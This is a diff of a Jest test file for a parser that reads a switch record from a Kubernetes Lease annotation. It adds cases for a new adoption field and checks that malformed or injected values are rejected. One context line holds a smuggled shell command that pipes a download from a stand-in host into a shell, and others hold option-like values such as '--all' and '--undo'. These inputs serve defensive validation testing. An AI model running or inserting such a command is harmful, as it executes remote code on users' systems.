@@ -18,6 +18,29 @@ describe('the record of a switch, in the annotation of its Lease', () => {
     expect(read(JSON.stringify(second))).toEqual(second);
   });
 
+  const adopts = {
+    deployment: 'coffee-shop',
+    hash: '5ff868d745',
+    makes: { routes: false, subsets: true },
+    annotations: { 'zero-downtime/virtual-service': 'shop-ways' },
+  };
+
+  it('what an adoption has found is read as it was written', () => {
+    const adopting = { ...record, from: 'plain', adopts };
+    expect(read(JSON.stringify(adopting))).toEqual(adopting);
+  });
+
+  it.each([
+    ['no hash', { hash: undefined }],
+    ['a hash that is a selector', { hash: 'a,b!=c' }],
+    ['no word of what it makes', { makes: {} }],
+    ['a Deployment that is an option', { deployment: '--all' }],
+    ['an annotation of somebody else', { annotations: { 'kubectl.kubernetes.io/restartedAt': 'now' } }],
+    ['an annotation that is no text', { annotations: { 'zero-downtime/virtual-service': 7 } }],
+  ])('an annotation is no record of an adoption with %s', (_what, change) => {
+    expect(read(JSON.stringify({ ...record, adopts: { ...adopts, ...change } }))).toBeUndefined();
+  });
+
   it.each([
     ['a version that a shell would take for more', { to: 'v2; curl evil.example | sh' }],
     ['a version that is an option', { from: '--undo' }],
